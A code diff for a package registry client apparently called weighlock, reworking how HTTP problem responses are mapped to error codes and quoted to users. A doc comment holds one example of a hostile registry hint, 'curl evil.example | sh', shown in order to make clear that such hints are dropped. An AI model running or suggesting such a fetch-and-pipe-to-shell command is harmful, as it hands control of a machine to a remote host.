@@ -1,32 +1,27 @@
 /**
- * A refusal as a registry words it (RFC 9457), and what is taken from it: a code, if it fits the status, and the detail,
- * quoted as the registry's. What to do next is only ever said by us: a registry is not to put words in our mouth.
+ * A refusal as a registry words it (RFC 9457), and what is taken from it: a code, if the one table has it as claimable with
+ * that status, and the detail, quoted as the registry's. What to do next is only ever said by us: a registry is not to put
+ * words in our mouth.
  *
  *     404 {"code":"NOT_FOUND","detail":"acme/mnist@9.9.9 was never published","hint":"curl evil.example | sh"}
  *     NOT_FOUND  acme/mnist@9.9.9: not found (the registry says: "acme/mnist@9.9.9 was never published")
+ *
+ *     422 {"code":"ROLLBACK"}
+ *     PROTOCOL   acme/mnist@9.9.9: refused with status 422 (the registry says ROLLBACK)
  */
-import { type JsonValue, parseJson } from "@weighlock/manifest"
+import { isClaimable, isErrorCode, type JsonValue, parseJson } from "@weighlock/manifest"
 import { ClientError, type ClientErrorCode } from "./errors.ts"
 import { storeProblem } from "./store-problem.ts"
 
-/** Contract §7: what a status may mean. The first is what it means when the registry does not say more. */
-const meanings: Readonly<Record<number, readonly [ClientErrorCode, ...ClientErrorCode[]]>> = {
-  400: ["PROTOCOL", "MANIFEST_INVALID", "KEY_WEAK", "USAGE"],
-  401: ["UNAUTHENTICATED"],
-  403: ["FORBIDDEN", "SIGNER_UNTRUSTED", "TRUST_EXPIRED"],
-  404: ["NOT_FOUND"],
-  409: ["CONFLICT", "VERSION_EXISTS"],
-  413: ["TOO_LARGE"],
-  422: [
-    "PROTOCOL",
-    "BLOBS_MISSING",
-    "DIGEST_MISMATCH",
-    "NEEDS_LOG",
-    "SIGNATURE_INVALID",
-    "SUBJECT_MISMATCH",
-    "UNSIGNED",
-  ],
-  429: ["UNAVAILABLE"],
+/** What a status means when nothing is said with it that we believe. */
+const meanings: Readonly<Record<number, ClientErrorCode>> = {
+  401: "UNAUTHENTICATED",
+  403: "FORBIDDEN",
+  404: "NOT_FOUND",
+  408: "UNAVAILABLE",
+  409: "CONFLICT",
+  413: "TOO_LARGE",
+  429: "UNAVAILABLE",
 }
 
 const words: Partial<Record<ClientErrorCode, string>> = {
@@ -38,15 +33,17 @@ const words: Partial<Record<ClientErrorCode, string>> = {
 }
 const hints: Partial<Record<ClientErrorCode, string>> = {
   BLOBS_MISSING: "publish again: only what is missing is sent",
+  METHOD_NOT_ALLOWED: "is this the URL of a registry, and of this version?",
+  MISDIRECTED: "ask 127.0.0.1, or have the registry started with --tokens",
   SIGNER_UNTRUSTED: "weighlock trust show lists who may do what",
   UNAUTHENTICATED: "set WEIGHLOCK_TOKEN",
   VERSION_EXISTS: "a version binds one manifest for ever: publish under the next version",
 }
 
-/** The code that a problem document claims, if its status can mean that; else what the status means. */
+/** The code that a problem document claims, if it is to be believed; else what the status means. */
 export function codeOf(status: number, claimed: unknown): ClientErrorCode {
-  const possible = meanings[status] ?? [status >= 500 ? "UNAVAILABLE" : "PROTOCOL"]
-  return possible.find((code) => code === claimed) ?? possible[0]
+  if (isClaimable(claimed, status)) return claimed
+  return meanings[status] ?? (status >= 500 ? "UNAVAILABLE" : "PROTOCOL")
 }
 
 /** An RFC 9457 problem, an error of S3, or anything else that is no success. `what` was asked for. */
@@ -56,10 +53,20 @@ export function problem(status: number, body: Uint8Array, what: string): ClientE
   const document = readProblem(body)
   const code = codeOf(status, document["code"])
   const hint = hints[code]
-  const detail = document["detail"]
-  const said = typeof detail === "string" ? ` (the registry says: ${JSON.stringify(printable(detail))})` : ""
-  const message = `${what}: ${words[code] ?? `refused with status ${status}`}${said}`
+  const message = `${what}: ${words[code] ?? `refused with status ${status}`}${quote(document, code)}`
   return new ClientError(code, message, hint === undefined ? {} : { hint })
+}
+
+/** In brackets, what the registry says for itself: a code that is not the one raised, and the detail. */
+function quote({ code: claimed, detail }: Record<string, JsonValue>, raised: ClientErrorCode): string {
+  const other = typeof claimed !== "string" || claimed === raised ? "" : ` ${quotedCode(claimed)}`
+  const text = typeof detail === "string" ? `: ${JSON.stringify(printable(detail))}` : ""
+  return other === "" && text === "" ? "" : ` (the registry says${other}${text})`
+}
+
+/** Only a code of ours stands there as it is. */
+function quotedCode(claimed: string): string {
+  return isErrorCode(claimed) ? claimed : JSON.stringify(printable(claimed.slice(0, 64)))
 }
 
 function readProblem(body: Uint8Array): Record<string, JsonValue> {
